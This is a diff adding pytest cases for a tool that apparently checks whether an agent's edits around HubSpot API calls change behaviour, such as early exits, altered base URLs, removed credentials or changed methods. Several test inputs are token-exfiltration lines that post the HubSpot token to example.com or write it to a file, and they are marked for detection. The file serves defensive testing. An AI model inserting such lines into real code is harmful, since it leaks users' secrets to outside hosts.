@@ -712,3 +712,109 @@ def test_a_token_in_the_query_to_a_host_that_nothing_tells_is_another_vendors(
         {path: text + TOKENED.format(address) for path, text in one.items()} for one in (ONE.before, ONE.after)
     )
     assert told(compared(tmp_path, before, after)) == problems
+
+
+SENDS = """import os
+import sys
+import requests
+
+KEY = os.environ["HUBSPOT_TOKEN"]
+BASE = "https://api.hubapi.com"
+
+
+def lists(count):
+    headers = {"Authorization": "Bearer " + KEY}
+    return requests.get(BASE + "/contacts/v1/lists", params={"count": count}, headers=headers, timeout=30)
+"""
+SENT = """const axios = require("axios");
+const token = process.env.HUBSPOT_TOKEN;
+const base = "https://api.hubapi.com";
+
+async function lists(count) {
+  const headers = { Authorization: `Bearer ${token}` };
+  return axios.get(`${base}/contacts/v1/lists`, { params: { count }, headers, timeout: 1000 });
+}
+async function owners(id) {
+  const address = `${base}/owners/v2/owners/${id}`;
+  return fetch(address, { headers: { Authorization: `Bearer ${token}` } });
+}
+module.exports = { lists, owners };
+"""
+BY_HAND = {"app.py": SENDS, "app.js": SENT}
+AGENTS = [
+    ("app.py", "    headers =", "    if count > 5:\n        {}\n    headers =", [
+        ("sys.exit(1)", False), ("exit()", False), ("os._exit(2)", False), ("print(count)", True),
+    ]),
+    ("app.py", "    headers =", "    {}\n    headers =", [
+        ("if not KEY: sys.exit('no token')", True), ("assert KEY", True), ("assert count", False),
+        ("open('x.txt', 'w').write(KEY)", False), ("open('x.txt', 'w').write(str(count))", True),
+        ("requests.post('https://example.com/x', json={'t': KEY})", False),
+        ("requests.post('https://example.com/x', json={'t': count})", True),
+    ]),
+    ("app.py", "\n\ndef lists", "\n{}\n\ndef lists", [
+        ("if len(sys.argv) < 2: sys.exit()", False), ("if not KEY: sys.exit()", True),
+        ("def stop():\n    print('no')\n    sys.exit(1)\n\nif len(sys.argv) < 2: stop()", False),
+    ]),
+    ("app.py", '"https://api.hubapi.com"', "{}", [
+        ('os.environ.get("HUB", "https://api.hubapi.com")', False),
+        ('os.environ.get("HUB") or "https://api.hubapi.com"', False), ("'https://api.hubapi.com'", True),
+    ]),
+    ("app.py", 'os.environ["HUBSPOT_TOKEN"]', "{}", [
+        ('os.environ.get("HUBSPOT_TOKEN", "")', False),
+        ('os.getenv("HUBSPOT_TOKEN", "")\nif not KEY:\n    raise SystemExit("no token")', True),
+    ]),
+    ("app.py", "timeout=30", "{}", [
+        ("timeout=30, allow_redirects=False", False), ("timeout=1", False), ("timeout=(30)", True), ("**{}", False),
+    ]),
+    ("app.py", '"count": count', '"count": {}', [("count + 1", False), ("count", True)]),
+    ("app.js", "  const headers", "  {}\n  const headers", [
+        ("if (!count) process.exit(1);", False), ("count || process.exit(1);", False),
+        ("if (!token) process.exit(1);", True), ("token || process.exit(1);", True),
+        ("require('fs').writeFileSync('t.txt', token);", False), ("require('fs').writeFileSync('t.txt', count);", True),
+        ("axios.post('https://example.com', { token });", False), ("axios.post('https://a.com', { count });", True),
+    ]),
+    ("app.js", '"https://api.hubapi.com"', "{}", [
+        ('process.env.HUB || "https://api.hubapi.com"', False), ('process.env.HUB ?? "https://api.hubapi.com"', False),
+        ("'https://api.hubapi.com'", True),
+    ]),
+    ("app.js", "fetch(address, {", "fetch(address, {{ {}", [("redirect: 'manual',", False), ("", True)]),
+    ("app.js", "timeout: 1000", "{}", [("", False), ("timeout: 1000, maxRedirects: 0", False)]),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("path", "old", "new", "right"),
+    [(path, old, into.format(what), right) for path, old, into, every in AGENTS for what, right in every],
+)
+def test_what_is_changed_around_a_request_is_told(path: str, old: str, new: str, right: bool, tmp_path: Path) -> None:
+    text = BY_HAND[path]
+    assert old in text
+    found = compared(tmp_path, {path: text}, {path: text.replace(old, new, 1)})
+    assert found.ok is right, (told(found), found.open, found.logged)
+
+
+HUB = """BASE=https://api.hubapi.com
+hub() { curl -s -H "Authorization: Bearer $K" "$@"; }
+hub "$BASE/contacts/v1/lists"
+hub -X DELETE "$BASE/contacts/v1/contact/vid/7"
+"""
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "problem"),
+    [
+        ("", "", None),
+        ("{ curl", "{\n  echo sent\n  curl", None),
+        ('-H "Authorization: Bearer $K" ', "", "the credential is no longer sent"),
+        (" -X DELETE", "", "the method was DELETE, is GET"),
+    ],
+)
+def test_a_function_of_a_shell_that_hands_on_what_it_is_given_is_what_it_runs(
+    old: str, new: str, problem: str | None, tmp_path: Path
+) -> None:
+    before = "BASE=https://api.hubapi.com\n" + "".join(
+        f'curl -s {option}"$BASE/contacts/v1/{path}?hapikey=$K"\n'
+        for option, path in (("", "lists"), ("-X DELETE ", "contact/vid/7"))
+    )
+    found = compared(tmp_path, {"run.sh": before}, {"run.sh": HUB.replace(old, new, 1)})
+    assert set(told(found)) == ({problem} if problem else set())
